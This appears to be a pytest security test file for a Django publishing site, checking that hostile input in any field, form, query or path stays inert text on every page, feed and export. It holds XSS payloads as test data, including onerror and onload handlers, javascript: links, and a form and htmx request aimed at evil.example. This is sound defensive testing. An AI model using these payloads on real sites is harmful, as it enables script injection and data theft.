"""Whatever is typed, wherever it is shown, stays text: no element, no handler, no link that runs, nothing fetched."""

import json
from urllib.parse import quote, urlencode

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from lxml import etree

from articles import revisions
from articles.models import Article
from publication.models import Publication
from republish.formats import FORMATS
from richtext.allowed import ARTICLE, COMMENT
from richtext.markup import comment_html
from richtext.outline import characters
from richtext.sanitise import clean_article, clean_comment
from tests.places import GIVEN_BACK, PLACES, PUBLIC
from tests.richtext.hostile import judge_article, judge_comment
from tests.security.corpus import payloads
from tests.security.judging import SAFE, elements, faults
from tests.security.planting import NOT_TYPED, SEEN, columns, crowd, furnish, mark, plant_everywhere, shelf, urls

HARMLESS = "Words of no harm at all"
HOSTILE = (
    """"'><img src=x onerror=alert(1)></script></textarea></title></style>--></template></select>"""
    """<form action=//evil.example><input name=key autofocus onfocus=alert(1)>]]>{{ x }}{% y %}%(z)s{w}"""
    """[a](javascript:alert(1)) <p id=content hx-get=//evil.example hx-trigger=load data-staff-bar=x>"""
)
AS_LONG = (HARMLESS * 20)[: len(HOSTILE)]  # so that forms refuse both for it
# What cleaning leaves of a reader's and an editor's own markup, and the marks around what screening noticed.
OF_TEXT = {
    tag: {*rules, *table.everywhere, "rel"} for table in (COMMENT, ARTICLE) for tag, rules in table.tags.items()
}
OF_TEXT |= {"mark": set(), "p": {"dir", "lang"}}
ATOM = "{http://www.w3.org/2005/Atom}"


# ---- what is planted ----


def test_every_column_that_people_fill_has_a_row():
    known = {name for name, _column in columns()}

    assert known == SEEN.keys() | NOT_TYPED
    assert not SEEN.keys() & NOT_TYPED
    assert {name.partition(",")[0] for name in SEEN.values() if name} <= PLACES.keys()


@pytest.fixture
def plant(world, make_figure, settings):
    """Put a text into every column of a world that has something of everything."""
    settings.MAIL_KEEP_TEXT = True
    furnish(world, make_figure)
    return lambda text: plant_everywhere(world, text)


# ---- every field on every surface ----


def test_what_is_stored_in_any_field_stays_text_on_every_page(world, visitors, plant, figure):
    plant(HARMLESS)
    usual = {kind for _name, answer in pages(world, visitors) if is_html(answer) for kind in kinds(answer.text)}
    plant(HOSTILE)

    answers = dict(pages(world, visitors))

    amiss = [f"{name}: {fault}" for name, answer in answers.items() for fault in judged(name, answer, usual)]
    unseen = [
        f"{field} on {name}" for field, name in SEEN.items() if name and mark(field) not in text_of(answers[name])
    ]
    figure(1, "fields that people fill, each on every page that shows it", len(SEEN), "all")
    figure(1, "pages of stored hostile text: active elements, handlers, links astray", len(amiss), "0")
    assert not amiss
    assert not unseen


def pages(world, visitors):
    """Yield what an administrator is answered at every URL of the site."""
    for name, url in urls(world):
        yield name, visitors.ask("administrator", "get", url)
    Publication.objects.update(discussions_closed_at=timezone.now())
    for name in ("articles:article", "comments:write", "moderation:discussions", "admin:index"):
        yield f"{name}, closed", visitors.ask("administrator", "get", PLACES[name].url(name, world))
    Publication.objects.update(discussions_closed_at=None)


def is_html(answer):
    return answer.headers.get("Content-Type", "").startswith("text/html")


def kinds(text):
    """Return the kinds of elements in a page: each tag with the names of its attributes."""
    return {(tag, frozenset(attributes)) for tag, attributes in elements(text)}


def judged(name, answer, usual):
    """Say what is wrong with an answer: its elements are of the usual kinds, or such as a clean text has."""
    path = answer.wsgi_request.path
    if answer.status_code >= 500:
        return [f"{answer.status_code}"]
    if not is_html(answer):
        return judged_file(answer)
    found = list(elements(answer.text))
    strangers = [
        f"a strange <{tag} {attributes}>"
        for tag, attributes in found
        if (tag, frozenset(attributes)) not in usual and not set(attributes) <= OF_TEXT.get(tag, {None})
    ]
    return faults(found, SITE, admin=path.startswith("/admin/"), desk=path.startswith("/moderation/")) + strangers


def judged_file(answer):
    """Say what is wrong with what is no page: its type is never one that runs, and what it holds is well formed."""
    kind = answer.headers.get("Content-Type", "").partition(";")[0]
    body = text_of(answer)
    if kind == "application/atom+xml":
        return judged_feed(body)
    if kind == "application/json":
        json.loads(body)
    elif kind.endswith("xml"):
        return [
            value for value in etree.fromstring(body.encode()).xpath("//@*[local-name()='href']") if not safe(value)
        ]
    return [] if kind in INERT or answer.status_code >= 300 else [f"a strange type: {kind}"]


SITE = "http://testserver"
INERT = {"application/json", "text/plain", "text/csv", "text/javascript", "application/zip", "image/gif", "image/webp"}
INERT |= {"application/x-bibtex", "application/x-research-info-systems", "text/markdown"}
INERT |= {"application/vnd.citationstyles.csl+json"}


def safe(url):
    return bool(SAFE.fullmatch(url))


def judged_feed(body):
    feed = etree.fromstring(body.encode())
    strange = {tag for tag in (element.tag for element in feed.iter()) if not str(tag).startswith(ATOM)}
    astray = [link for link in feed.xpath("//@href") if not safe(link)]
    contents = [element.text or "" for element in feed.iter(f"{ATOM}content", f"{ATOM}summary")]
    return [*strange, *astray, *(fault for content in contents for fault in judged_content(content))]


def judged_content(content):
    return [fault for fault in faults(elements(content)) if "fetched from elsewhere" not in fault or "evil" in fault]


def text_of(answer):
    """Return what an answer holds, that of an archive too."""
    data = b"".join(answer.streaming_content) if answer.streaming else answer.content
    answer._known = getattr(answer, "_known", b"") or data  # a stream can be read once
    return answer._known.decode(errors="replace")


# ---- what comes back at once ----


def test_what_is_sent_comes_back_as_text(world, visitors, figure):
    usual = {
        kind for _name, answer in sent(world, visitors, AS_LONG) if is_html(answer) for kind in kinds(answer.text)
    }

    answers = list(sent(world, visitors, HOSTILE))

    amiss = [f"{name}: {fault}" for name, answer in answers for fault in judged(name, answer, usual)]
    figure(1, "forms and queries of hostile text: active elements, handlers, links astray", len(amiss), "0")
    assert not amiss
    assert sum("evil.example" in text_of(answer) for _name, answer in answers) > 30


def sent(world, visitors, text):
    """Yield what is answered to a text in every field of every form, and in the queries and paths of every URL."""
    for name, place in PLACES.items():
        url, role = place.url(name, world), "anonymous" if name in PUBLIC else "administrator"
        query = urlencode(dict.fromkeys(QUERIES, text))
        yield f"{name}?", visitors.ask(role, "get", f"{url}{'&' if '?' in url else '?'}{query}")
        if data := place.data(world):
            words = {key: text if key not in CHOSEN else value for key, value in data.items()}
            yield f"{name}!", visitors.ask(role, "post", url, words, headers=OWN_PAGE)
            yield f"{name}!", visitors.ask(role, "post", url, dict.fromkeys(data, text), headers=OWN_PAGE)
            if place.post["anonymous"] == GIVEN_BACK:
                yield f"{name}!", visitors.ask("anonymous", "post", url, words, headers=OWN_PAGE)
    for path in ("/{}/", "/articles/{}/", "/comments/mine/{}/", "/preview/{}/", "/admin/{}/", "/moderation/{}/"):
        yield path, visitors.ask("administrator", "get", path.format(quote(text, safe="")))


OWN_PAGE = {"sec-fetch-site": "same-origin"}
QUERIES = (
    "q page order reply next article status before by act since until request comment working revision o p".split()
)
# What is chosen of several, or says what was seen: where these are as they were, what is typed goes further.
CHOSEN = frozenset(
    "version seen entry entries picked decision to when at act about key profession interests patient rules".split()
)


def test_words_without_a_token_come_back_as_text(article, filled_in):
    browser = Client(enforce_csrf_checks=True)
    fields = filled_in(**dict.fromkeys(("name", "text", "affiliation", "handle", "interests_text", "key"), HOSTILE))

    answer = browser.post(reverse("comments:send", args=[article.slug]), fields)

    assert answer.status_code == 403
    assert "evil.example" in answer.text
    assert not faults(elements(answer.text), SITE)


# ---- the whole corpus ----


def test_every_payload_is_clean_as_a_comment_and_as_an_article(figure):
    texts = [characters(payload) for payload in payloads()]

    for text in texts:
        judge_comment(comment_html(text))
        judge_comment(clean_comment(text))
        judge_article(clean_article(text))

    figure(1, "payloads of the project’s own corpus, cleaned as a comment", len(texts), "a few hundred")
    figure(2, "payloads of the project’s own corpus, cleaned as an article", len(texts), "a few hundred")


def test_every_payload_stays_text_in_every_field_of_a_comment(client, moderator, article, make_article, figure):
    client.force_login(moderator)
    usual_one = make_article("Of no harm", slug="of-no-harm")
    crowd(usual_one, [HARMLESS, "https://a.example/"] * 101)
    crowd(article, payloads())
    usual = {kind for path in around(usual_one, 2) for kind in kinds(client.get(path).text)}

    answers = [client.get(path) for path in around(article, 1 + len(payloads()) // 200)]

    amiss = [f"{answer.wsgi_request.path}: {fault}" for answer in answers for fault in judged("", answer, usual)]
    figure(1, "payloads in every field of a comment: active elements, handlers, links astray", len(amiss), "0")
    assert not amiss
    assert sum(answer.text.count('class="comment"') for answer in answers) == len(payloads())


def around(article, pages):
    """Yield where an article's comments are seen: by readers, on so many pages, and by moderators."""
    yield from (f"{article.get_absolute_url()}?page={number}" for number in range(1, pages + 1))
    yield f"/feeds/articles/{article.slug}/comments.atom"
    yield f"/moderation/comments/?article={article.pk}"


def test_every_payload_stays_text_in_titles_and_in_the_names_of_authors(client, editor, article, figure):
    client.force_login(editor)
    shelf([HARMLESS * 8] * 101)
    usual = {kind for path in lists(101) for kind in kinds(client.get(path).text)}
    count = shelf(payloads())

    answers = [client.get(path) for path in lists(count)]

    amiss = [f"{answer.wsgi_request.path}: {fault}" for answer in answers for fault in judged("", answer, usual)]
    figure(2, "payloads in titles, standfirsts and names: active elements, handlers, links astray", len(amiss), "0")
    assert not amiss
    assert {answer.status_code for answer in answers} == {200}


def lists(count):
    """Return where so many articles are listed, the newest first."""
    public = [f"/articles/?page={number}" for number in range(1, count // 12 + 2)]
    admin = [f"/admin/{name}/?p={turn}" for name in ("articles/article", "authors/author") for turn in (1, 2)]
    return ["/", "/feeds/articles.atom", *public, *admin]


# ---- what was stored some other way ----


def test_a_body_that_nothing_cleaned_leaves_clean(client, article, figure):
    Article.objects.filter(pk=article.pk).update(body="<p>Words.</p>" + "<p>Between.</p>".join(RAW))
    paths = [f"/articles/an-article/republish{ending}" for ending in ("/", *(f".{each}" for each in FORMATS))]

    answers = [client.get(path) for path in ["/feeds/articles.atom", *paths]]

    amiss = [f"{answer.wsgi_request.path}: {fault}" for answer in answers for fault in judged_alone(answer)]
    figure(2, "copies and feeds of a body that nothing cleaned: active elements", len(amiss), "0")
    assert not amiss
    assert all("Words." in text_of(answer) for answer in answers if ".zip" not in answer.wsgi_request.path)


RAW = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<svg onload=alert(1)>",
]


def judged_alone(answer):
    """Say what is wrong with an answer by itself; a copy as text has nothing that would run in a page."""
    text = text_of(answer)
    raw = [payload for payload in RAW if payload in text]
    return raw + (faults(elements(text), SITE) if is_html(answer) else judged_file(answer))


def test_revisions_that_nothing_cleaned_can_be_compared(client, editor, article):
    client.force_login(editor)
    content = revisions.snapshot(article)
    for number, body in enumerate(["<p>Words.</p>", *RAW], 1):
        fields = content["fields"] | {"body": body}
        article.revisions.create(number=number, by=editor, content=content | {"fields": fields})

    for number in range(1, len(RAW) + 1):
        answer = client.get(f"/admin/articles/article/{article.pk}/compare/?from={number}&to={number + 1}")

        assert answer.status_code == 200
        assert not faults(elements(answer.text), SITE, admin=True)
